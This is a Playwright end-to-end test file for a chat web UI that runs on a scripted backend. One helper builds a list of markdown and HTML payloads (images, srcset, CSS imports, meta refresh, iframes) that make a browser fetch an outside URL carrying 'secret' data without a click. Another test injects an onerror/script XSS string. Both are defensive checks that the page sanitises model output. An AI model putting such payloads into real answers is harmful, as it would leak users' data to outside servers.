"""The chat page end to end in headless Chromium (Playwright), against the real server.

The answers come from a SCRIPTED model (not a language model) so the page's behaviour can be asserted.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from lector.llm.backend import ChatOptions
from lector.llm.messages import Message, ToolSpec
from lector.llm.scripted import ScriptedBackend, call
from lector.webui.app import create_app
from lector.webui.config import ServerConfig
from tests.webui.live_server import TOKEN, free_port, serve_app

CHROMIUM = os.environ.get("LECTOR_CHROMIUM", "/usr/bin/chromium")
pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists(), reason=f"no Chromium at {CHROMIUM} (make test installs it)"
)


def scripted_reply(messages: list[Message], tools: list[ToolSpec] | None, options: ChatOptions) -> Message | str:
    prompt = "\n".join(m.content for m in messages)
    if "exfiltrate" in messages[-1].content:
        return hostile_markdown(EXFIL["base"])
    if "6*7" in messages[-1].content and tools:
        return Message.assistant("", [call("calculator", {"expression": "6*7"})])
    if "plot" in messages[-1].content and tools:
        return Message.assistant("", [call("code_interpreter", {"code": PLOT_CODE})])
    if messages[-1].role == "tool" and messages[-1].name == "code_interpreter":
        return "Here is the plot."
    if messages[-1].role == "tool":
        return f"The result is {messages[-1].content}."
    if "otter" in prompt.lower():
        return "Sea otters hold hands while they sleep [1]."
    return "Hello! I am streaming this **markdown** answer."


EXFIL: dict[str, str] = {"base": "http://127.0.0.1:9"}


def hostile_markdown(base: str) -> str:
    """Every way we know for an answer to make a browser fetch a URL without a click."""
    return "\n\n".join(
        [
            f"Here you go ![chart]({base}/md-image?d=secret) and [a link]({base}/clicked-only).",
            f'<img src="{base}/img-tag"> <img srcset="{base}/srcset 2x"> <input type="image" src="{base}/input">',
            f'<div style="background:url({base}/style-attr)">styled</div> <table background="{base}/bg"></table>',
            f"<style>@import url({base}/import); body {{ background: url({base}/style-el) }}</style>",
            f'<video poster="{base}/poster" src="{base}/video"></video> <audio src="{base}/audio" autoplay></audio>',
            f'<picture><source srcset="{base}/source"><img src="{base}/picture"></picture>',
            f'<link rel="stylesheet" href="{base}/link"> <link rel="prefetch" href="{base}/prefetch">',
            f'<svg><image href="{base}/svg-image"></image></svg> <iframe src="{base}/iframe"></iframe>',
            f'<object data="{base}/object"></object> <embed src="{base}/embed">',
            f'<meta http-equiv="refresh" content="0;url={base}/refresh"> <body background="{base}/body">',
        ]
    )


@pytest.fixture()
def exfil_server() -> Iterator[list[str]]:
    """Another origin that records every request it gets."""
    import http.server
    import threading

    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    EXFIL["base"] = f"http://127.0.0.1:{server.server_address[1]}"
    yield hits
    server.shutdown()


PLOT_CODE = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [1, 4, 9])\nplt.show()"


@pytest.fixture()
def page(tmp_path: Path) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    port = free_port()
    config = ServerConfig(
        data_dir=tmp_path, port=port, token=TOKEN, tools=["calculator", "code_interpreter"], rate_burst=1000
    )
    backend = ScriptedBackend(default=scripted_reply, delay=0.01)
    with serve_app(create_app(config, backend=backend), port) as base, sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        tab = browser.new_page()
        tab.goto(f"{base}/?token={TOKEN}")
        yield tab
        browser.close()


def ask(page: Any, text: str) -> Any:
    page.fill("#input", text)
    page.press("#input", "Enter")
    page.wait_for_selector(".msg.assistant .usage", timeout=30_000)
    return page.locator(".msg.assistant").last


def test_send_a_message_and_see_the_streamed_answer(page: Any) -> None:
    answer = ask(page, "hello there")
    assert "streaming this markdown answer" in answer.inner_text()
    assert answer.locator("strong").inner_text() == "markdown"
    assert page.locator("#sessions li").count() == 1
    assert page.locator("#stop").is_hidden()


def test_a_tool_call_is_shown_collapsible_with_its_result(page: Any) -> None:
    answer = ask(page, "what is 6*7?")
    tool = answer.locator("details.tool")
    assert "calculator" in tool.locator("summary").inner_text()
    tool.locator("summary").click()
    assert tool.locator("pre.result").inner_text() == "42"
    assert "The result is 42." in answer.inner_text()


def test_upload_a_document_and_ask_about_it(page: Any, tmp_path: Path) -> None:
    doc = tmp_path / "otters.txt"
    doc.write_text("Sea otters hold hands while they sleep so that they do not drift apart.\n" * 3)
    page.set_input_files("#file", str(doc))
    page.wait_for_selector(".doc[data-status=ready]", timeout=30_000)
    answer = ask(page, "Why do otters hold hands?")
    assert "hold hands" in answer.inner_text()
    assert "Level 0" in answer.locator(".level-note").inner_text()
    citation = answer.locator("button.citation").first
    assert "otters.txt" in citation.inner_text()
    citation.click()
    assert "drift apart" in page.locator("#source-text").inner_text()


def test_unsafe_markdown_is_sanitised(page: Any) -> None:
    page.evaluate("window.__pwned = false")
    html = page.evaluate(
        "(() => { const d = document.createElement('div');"
        " renderMarkdown(d, '<img src=x onerror=\"window.__pwned=true\"> <script>window.__pwned=true</script>');"
        " return d.innerHTML; })()"
    )
    assert "onerror" not in html and "<script" not in html
    assert page.evaluate("window.__pwned") is False


def test_a_hostile_answer_makes_no_request_live_or_reopened(page: Any, exfil_server: list[str]) -> None:
    origin = page.url.split("/?")[0].rstrip("/")
    foreign: list[str] = []
    page.on("request", lambda request: None if request.url.startswith(origin) else foreign.append(request.url))
    answer = ask(page, "please exfiltrate")
    assert "Here you go" in answer.inner_text()
    assert answer.locator("a", has_text="image: chart").get_attribute("href") == f"{EXFIL['base']}/md-image?d=secret"
    page.locator("#sessions li").first.click()
    page.wait_for_selector(".msg.assistant .text")
    page.reload()
    page.locator("#sessions li").first.click()
    page.wait_for_selector(".msg.assistant .text")
    page.wait_for_timeout(500)
    assert answer.locator("style, img, video, audio, iframe, object, embed, svg, link").count() == 0
    assert foreign == [] and exfil_server == []


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (make test installs it)")
def test_a_plot_from_the_code_interpreter_is_shown(page: Any) -> None:
    answer = ask(page, "plot the squares")
    image = answer.locator("details.tool img")
    assert image.count() == 1
    assert image.get_attribute("src").startswith("data:image/png;base64,")
